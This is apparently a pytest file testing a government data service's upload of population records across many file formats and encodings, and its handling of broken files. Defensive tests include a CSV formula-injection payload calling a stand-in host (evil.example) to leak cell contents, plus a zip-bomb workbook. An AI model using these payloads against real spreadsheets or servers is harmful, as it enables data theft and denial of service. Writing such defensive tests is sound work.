"""AGG-2, NF-4: every file format a provider may upload, and every broken file, on both stores.

Each test asserts what the provider would notice: the same ten rows read back the same whatever the
format, encoding or header; a bad file fails with a Chinese message and leaves the data as it was."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import os
import zipfile

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook

from govdata.app import create_app
from tests.support.batches import csv_bytes, good_rows, upload
from tests.support.http import assert_problem, login

CODES = ["gmsfhm", "xm", "xb", "csrq", "hjdz"]
NAMES = ["公民身份号码", "姓名", "性别", "出生日期", "户籍地址"]
OUTSIDE_GBK = "焦作市山阳区𠀀家巷3号"  # U+20000 (CJK Ext B): four bytes in GB18030, absent from GBK


def ten_rows() -> list[list[str]]:
    rows = good_rows(10)
    rows[3][4] = OUTSIDE_GBK
    rows[6][4] = "焦作市解放区“新华”街7号，东单元"  # quotes and a full-width comma
    rows[8][1] = "欧阳·娜娜"
    return rows


def gbk_rows() -> list[list[str]]:
    rows = ten_rows()
    rows[3][4] = "焦作市山阳区丰收路3号"
    return rows


def expected(rows: list[list[str]]) -> list[dict]:
    return sorted((dict(zip(CODES, row, strict=True)) for row in rows), key=lambda r: r["gmsfhm"])


def xlsx_bytes(rows, header=NAMES) -> bytes:
    """What Excel saves: a date cell for 出生日期 and a number cell for 性别."""
    book = Workbook()
    sheet = book.active
    sheet.title = "人口"
    sheet.append(header)
    for row in rows:
        sheet.append([row[0], row[1], int(row[2]), dt.date.fromisoformat(row[3]), row[4]])
    for cell in sheet["D"][1:]:
        cell.number_format = "yyyy-mm-dd"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def records(rows, keys) -> list[dict]:
    return [
        {k: (int(v) if c == "xb" else v) for k, c, v in zip(keys, CODES, row, strict=True)} for row in rows
    ]


def json_bytes(rows, keys=CODES) -> bytes:
    return json.dumps(records(rows, keys), ensure_ascii=False, indent=1).encode()


def ndjson_bytes(rows, keys=NAMES) -> bytes:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records(rows, keys)).encode()


def parquet_bytes(rows) -> bytes:
    table = pa.table(
        {
            "公民身份号码": pa.array([r[0] for r in rows]),
            "姓名": pa.array([r[1] for r in rows]),
            "性别": pa.array([int(r[2]) for r in rows], pa.int8()),
            "出生日期": pa.array([dt.date.fromisoformat(r[3]) for r in rows], pa.date32()),
            "户籍地址": pa.array([r[4] for r in rows]),
        }
    )
    out = io.BytesIO()
    pq.write_table(table, out)
    return out.getvalue()


FORMATS = {
    # name: (file name, bytes, rows it holds, file_format, encoding)
    "utf-8": ("导出.csv", lambda: csv_bytes(ten_rows(), "utf-8"), ten_rows, "csv", "utf-8"),
    "utf-8-bom": ("导出.csv", lambda: csv_bytes(ten_rows(), "utf-8-sig"), ten_rows, "csv", "utf-8-sig"),
    "gbk": ("导出.csv", lambda: csv_bytes(gbk_rows(), "gbk"), gbk_rows, "csv", "gb18030"),
    "gb18030": ("导出.csv", lambda: csv_bytes(ten_rows(), "gb18030"), ten_rows, "csv", "gb18030"),
    "xlsx": ("导出.xlsx", lambda: xlsx_bytes(ten_rows()), ten_rows, "xlsx", None),
    "json": ("导出.json", lambda: json_bytes(ten_rows()), ten_rows, "json", None),
    "ndjson": ("导出.ndjson", lambda: ndjson_bytes(ten_rows()), ten_rows, "ndjson", None),
    "parquet": ("导出.parquet", lambda: parquet_bytes(ten_rows()), ten_rows, "parquet", None),
}


def read_all(client, headers, code) -> list[dict]:
    body = client.get(f"/api/v1/share/{code}/records?limit=500", headers=headers).json()
    return sorted(body["items"], key=lambda r: r["gmsfhm"])


def has_chinese(text: str | None) -> bool:
    return bool(text) and any("\u4e00" <= ch <= "\u9fff" for ch in text)


def test_the_rows_need_gb18030():
    with pytest.raises(UnicodeEncodeError):
        OUTSIDE_GBK.encode("gbk")
    assert OUTSIDE_GBK.encode("gb18030").decode("gb18030") == OUTSIDE_GBK


@pytest.mark.parametrize("kind", FORMATS)
def test_every_format_gives_the_same_ten_rows(client, as_user, population_code, kind):
    officer = as_user("ga_officer")
    name, data, rows, file_format, encoding = FORMATS[kind]
    response = upload(client, officer, population_code, data(), name=name, mode="replace")
    assert response.status_code == 201, response.text
    batch = response.json()
    assert batch["status"] == "applied", batch
    assert (batch["rows_total"], batch["rows_applied"], batch["rows_rejected"]) == (10, 10, 0)
    assert (batch["file_format"], batch["encoding"]) == (file_format, encoding)
    assert batch["warnings"] is None
    assert read_all(client, officer, population_code) == expected(rows())
    assert client.get(f"/api/v1/batches/{batch['id']}/errors", headers=officer).json() == []


@pytest.mark.parametrize(
    "header",
    [
        CODES,
        NAMES,
        ["GMSFHM", "姓名", "xb", " 出生日期 ", "户籍地址"],  # a mix, upper case, stray spaces
        ["户籍地址", "csrq", "性别", "xm", "公民身份号码"],  # any order
    ],
    ids=["codes", "names", "mixed", "reordered"],
)
def test_columns_match_by_item_code_or_name(client, as_user, population_code, header):
    officer = as_user("ga_officer")
    order = [
        CODES.index(h.strip().lower()) if h.strip().lower() in CODES else NAMES.index(h.strip())
        for h in header
    ]
    rows = [[row[i] for i in order] for row in ten_rows()]
    batch = upload(client, officer, population_code, csv_bytes(rows, header=header)).json()
    assert (batch["status"], batch["rows_applied"], batch["warnings"]) == ("applied", 10, None)
    assert read_all(client, officer, population_code) == expected(ten_rows())


def test_an_unknown_column_is_ignored_with_a_warning(client, as_user, population_code):
    officer = as_user("ga_officer")
    rows = [[*row, f"备注{i}"] for i, row in enumerate(ten_rows())]
    batch = upload(client, officer, population_code, csv_bytes(rows, header=[*NAMES, "备注"])).json()
    assert (batch["status"], batch["rows_applied"]) == ("applied", 10)
    assert "未识别的列已忽略：备注" in batch["warnings"]
    assert read_all(client, officer, population_code) == expected(ten_rows())


def _preload(client, officer, code) -> list[dict]:
    batch = upload(client, officer, code, csv_bytes(gbk_rows()[:5])).json()
    assert batch["status"] == "applied"
    return read_all(client, officer, code)


@pytest.mark.parametrize(
    "data, encoding",
    [
        (lambda: csv_bytes(gbk_rows(), "gbk"), "utf-8"),  # a GBK export declared as UTF-8
        (lambda: csv_bytes(ten_rows(), "utf-8", header=NAMES), "gbk"),  # UTF-8 declared as GBK
    ],
    ids=["gbk-as-utf8", "utf8-as-gbk"],
)
def test_a_wrong_explicit_encoding_fails_and_changes_nothing(
    client, as_user, population_code, data, encoding
):
    officer = as_user("ga_officer")
    before = _preload(client, officer, population_code)
    batch = upload(client, officer, population_code, data(), mode="replace", encoding=encoding).json()
    assert batch["status"] == "failed" and batch["rows_applied"] == 0, batch
    assert has_chinese(batch["message"]) and "编码" in batch["message"]
    assert read_all(client, officer, population_code) == before


def test_utf8_declared_as_gbk_never_stores_mojibake(client, as_user, population_code):
    officer = as_user("ga_officer")
    before = _preload(client, officer, population_code)
    rows = [[row[0], "张三", row[2], row[3], "焦作市区"] for row in good_rows(3)]  # even-length runs
    batch = upload(
        client, officer, population_code, csv_bytes(rows, "utf-8", header=CODES), encoding="gbk"
    ).json()
    stored = read_all(client, officer, population_code)
    assert batch["status"] == "failed" and stored == before, (batch, [r["xm"] for r in stored])


def _random_bytes() -> bytes:
    return os.urandom(10 * 1024 * 1024)


def _xls() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + os.urandom(4096)


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "这不是电子表格")
        archive.writestr("data.csv", csv_bytes(ten_rows()).decode())
    return out.getvalue()


BROKEN = {
    "header-only": ("导出.csv", lambda: csv_bytes([], header=NAMES)),
    "random-10mb": ("导出.csv", _random_bytes),
    "xls": ("导出.xls", _xls),
    "zip-not-xlsx": ("导出.xlsx", _zip),
    "json-numbers": ("导出.json", lambda: b"[1, 2, 3]"),
    "json-object": ("导出.json", lambda: json.dumps({"公民身份号码": "1", "姓名": "张三"}).encode()),
    "json-arrays": ("导出.json", lambda: json.dumps([CODES, *ten_rows()], ensure_ascii=False).encode()),
    "json-string": ("导出.json", lambda: '"人口基础信息"'.encode()),
    "json-truncated": ("导出.json", lambda: json_bytes(ten_rows())[:-40]),
}


@pytest.mark.parametrize("kind", BROKEN)
def test_a_broken_file_fails_clearly_and_changes_nothing(client, as_user, population_code, kind):
    officer = as_user("ga_officer")
    before = _preload(client, officer, population_code)
    name, data = BROKEN[kind]
    response = upload(client, officer, population_code, data(), name=name, mode="replace")
    if response.status_code >= 400:
        assert_problem(response, response.status_code)
        assert has_chinese(response.json()["detail"])
    else:
        batch = response.json()
        # a single JSON object on one line is one NDJSON record: read, then refused by validation
        expected = ("failed", "rejected") if kind == "json-object" else ("failed",)
        assert batch["status"] in expected and batch["rows_applied"] == 0, batch
        assert has_chinese(batch["message"]), batch["message"]
        assert "Traceback" not in batch["message"]
    assert read_all(client, officer, population_code) == before


@pytest.mark.parametrize("ragged", ["short", "long"])
def test_a_ragged_csv_fails_and_changes_nothing(client, as_user, population_code, ragged):
    officer = as_user("ga_officer")
    before = _preload(client, officer, population_code)
    lines = csv_bytes(ten_rows(), header=NAMES).decode().splitlines()
    # row 5 lost its last two fields; or an unquoted comma in an address split it in two
    if ragged == "short":
        lines[5] = ",".join(lines[5].split(",")[:3])
    else:
        lines[5] = lines[5].replace("解放区", "解放区,")
    data = ("\n".join(lines) + "\n").encode()
    batch = upload(client, officer, population_code, data, mode="replace", policy="accept_valid").json()
    assert batch["status"] == "failed" and has_chinese(batch["message"]), batch
    assert "第 6 行" in batch["message"] and "列数与表头不符" in batch["message"], (
        batch
    )  # the header is line 1
    assert read_all(client, officer, population_code) == before


def test_a_quoted_line_break_inside_a_field_is_read(client, as_user, population_code):
    officer = as_user("ga_officer")
    rows = ten_rows()
    rows[1][4] = "焦作市解放区\n民主路 2 号"  # Excel's Alt+Enter inside a cell
    batch = upload(client, officer, population_code, csv_bytes(rows), mode="replace").json()
    assert batch["status"] == "applied", batch
    assert read_all(client, officer, population_code) == expected(rows)


def test_ndjson_named_json_is_read(client, as_user, population_code):
    officer = as_user("ga_officer")
    data = ndjson_bytes(ten_rows())
    batch = upload(client, officer, population_code, data, name="export.json", mode="replace").json()
    assert batch["status"] == "applied", batch
    assert read_all(client, officer, population_code) == expected(ten_rows())


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_a_hostile_value_is_exported_as_text(client, as_user, population_code):
    officer = as_user("ga_officer")
    rows = ten_rows()
    rows[2][2] = HOSTILE
    rows[5][1] = "@SUM(1+1)"
    batch = upload(client, officer, population_code, csv_bytes(rows), policy="accept_valid").json()
    assert (batch["status"], batch["rows_rejected"]) == ("applied", 1)
    exported = client.get(f"/api/v1/batches/{batch['id']}/errors?format=csv", headers=officer)
    assert exported.content.startswith(b"row,item,value,rule,message\r\n")  # for programs: no BOM
    table = list(csv.DictReader(io.StringIO(exported.text)))
    assert [(r["row"], r["item"]) for r in table] == [("3", "xb")]
    assert table[0]["value"] == HOSTILE  # for programs: the value as it is
    assert has_chinese(table[0]["message"])

    book = load_workbook(
        io.BytesIO(client.get(f"/api/v1/batches/{batch['id']}/errors?format=xlsx", headers=officer).content)
    )
    cell = book.active.cell(row=2, column=3)
    assert cell.value == "'" + HOSTILE and cell.data_type == "s"  # text, not a formula
    # the applied value that looks like a formula is stored as the provider sent it
    stored = {r["gmsfhm"]: r for r in read_all(client, officer, population_code)}
    assert stored[rows[5][0]]["xm"] == "@SUM(1+1)"


@pytest.fixture
def small_limit_client(settings):
    app = create_app(settings.model_copy(update={"max_upload_mb": 1}))
    with TestClient(app, raise_server_exceptions=False) as client:
        yield client
    app.state.engine.dispose()


def test_an_upload_above_the_limit_gets_413(small_limit_client, settings, population_code):
    client = small_limit_client
    officer = login(client, "ga_officer")
    just_over = csv_bytes(good_rows(2)) + b"#" * (1024 * 1024)
    far_over = b"x" * (5 * 1024 * 1024)
    for data in (just_over, far_over):
        response = upload(client, officer, population_code, data)
        body = assert_problem(response, 413)
        assert body["type"].endswith("payload-too-large") and "1 MiB" in body["detail"]
        assert has_chinese(body["detail"])
    assert client.get(f"/api/v1/resources/{population_code}/batches", headers=officer).json()["total"] == 0
    assert read_all(client, officer, population_code) == []
    small = upload(client, officer, population_code, csv_bytes(good_rows(3)))
    assert small.status_code == 201 and small.json()["rows_applied"] == 3


# --- UTF-16, spreadsheet limits, safe error downloads --------------------------------------------------


def utf16_bytes(rows, encoding: str, delimiter: str) -> bytes:
    """What Excel's "Unicode text" writes: UTF-16 with a byte order mark, tab separated."""
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows([NAMES, *rows])
    bom = codecs.BOM_UTF16_LE if encoding == "utf-16-le" else codecs.BOM_UTF16_BE
    return bom + out.getvalue().encode(encoding)


@pytest.mark.parametrize(
    ("encoding", "delimiter"), [("utf-16-le", "\t"), ("utf-16-be", ",")], ids=["le-tab", "be-comma"]
)
def test_a_utf16_csv_with_a_bom_is_read(client, as_user, population_code, encoding, delimiter):
    officer = as_user("ga_officer")
    data = utf16_bytes(ten_rows(), encoding, delimiter)
    batch = upload(client, officer, population_code, data, name="导出.txt", mode="replace").json()
    assert (batch["status"], batch["rows_applied"], batch["encoding"]) == ("applied", 10, "utf-16"), batch
    assert read_all(client, officer, population_code) == expected(ten_rows())
    # named as another encoding, it is refused with the reason
    named = upload(client, officer, population_code, data, mode="replace", encoding="gbk").json()
    assert named["status"] == "failed" and "UTF-16" in named["message"]


@pytest.fixture
def configure(monkeypatch, client):
    """Set ``GOVDATA_*`` variables as an operator would; the settings are read again (also the
    running app's, as a restart would)."""
    from govdata.core.config import get_settings

    def setenv(**variables):
        for name, value in variables.items():
            monkeypatch.setenv(name, str(value))
            field = name.removeprefix("GOVDATA_").lower()
            monkeypatch.setattr(
                client.app.state.settings, field, type(getattr(client.app.state.settings, field))(value)
            )
        get_settings.cache_clear()

    yield setenv
    get_settings.cache_clear()


def test_a_workbook_beyond_the_configured_rows_is_refused_on_upload(
    client, as_user, population_code, configure
):
    officer = as_user("ga_officer")
    configure(GOVDATA_MAX_SHEET_ROWS=6)  # a header and five rows
    body = assert_problem(upload(client, officer, population_code, xlsx_bytes(ten_rows()), "导出.xlsx"), 422)
    assert body["type"].endswith("too-many-rows") and "最多 5 行数据" in body["detail"]
    assert client.get(f"/api/v1/resources/{population_code}/batches", headers=officer).json()["total"] == 0
    small = upload(client, officer, population_code, xlsx_bytes(ten_rows()[:5]), "导出.xlsx").json()
    assert (small["status"], small["rows_applied"]) == ("applied", 5)


def test_a_workbook_inflating_beyond_the_configured_cap_is_refused_on_upload(
    client, as_user, population_code, configure
):
    officer = as_user("ga_officer")
    configure(GOVDATA_MAX_XLSX_INFLATED_MB=1)
    book = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_bytes(ten_rows()))) as source,
        zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as bomb,
    ):
        for entry in source.infolist():
            bomb.writestr(entry, source.read(entry))
        bomb.writestr("xl/padding.xml", b" " * (8 * 1024 * 1024))  # 8 MiB inflated, a few KiB zipped
    assert len(book.getvalue()) < 100 * 1024
    body = assert_problem(upload(client, officer, population_code, book.getvalue(), "导出.xlsx"), 413)
    assert "解压后过大" in body["detail"] and has_chinese(body["detail"])
    assert client.get(f"/api/v1/resources/{population_code}/batches", headers=officer).json()["total"] == 0


def test_error_downloads_neutralise_formulas_and_control_characters(client, as_user, population_code):
    officer = as_user("ga_officer")
    records = [dict(zip(CODES, row, strict=True)) for row in ten_rows()[:4]]
    records[0]["xb"] = "=1+2"  # not in the 性别 code list: each lands in the errors file
    records[1]["xb"] = "男\x01"
    records[2]["xb"] = "1\r2"
    response = client.post(
        f"/api/v1/resources/{population_code}/batches",
        json={"mode": "upsert", "policy": "accept_valid", "records": records},
        headers=officer,
    )
    batch = response.json()
    assert (batch["status"], batch["rows_rejected"]) == ("applied", 3), batch
    url = f"/api/v1/batches/{batch['id']}/errors"
    assert [e["value"] for e in client.get(url, headers=officer).json()] == ["=1+2", "男\x01", "1\r2"]

    # for programs, the values as JSON gives them; for people (Chinese list), made safe
    exported = client.get(f"{url}?format=csv", headers=officer).content
    table = list(csv.DictReader(io.StringIO(exported.decode("utf-8"), newline="")))
    assert [(r["row"], r["value"]) for r in table] == [("1", "=1+2"), ("2", "男\x01"), ("3", "1\r2")]
    for_people = client.get(f"{url}?format=csv&lang=zh", headers=officer).content
    assert for_people.startswith(b"\xef\xbb\xbf") and b"\x01" not in for_people
    assert b"'=1+2" in for_people and b",=1+2" not in for_people

    response = client.get(f"{url}?format=xlsx", headers=officer)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [sheet.cell(row=r, column=3) for r in (2, 3, 4)]
    assert [c.value for c in values] == ["'=1+2", "男", "1\n2"]  # XML reads a CR as a line end
    assert all(c.data_type == "s" for c in values)
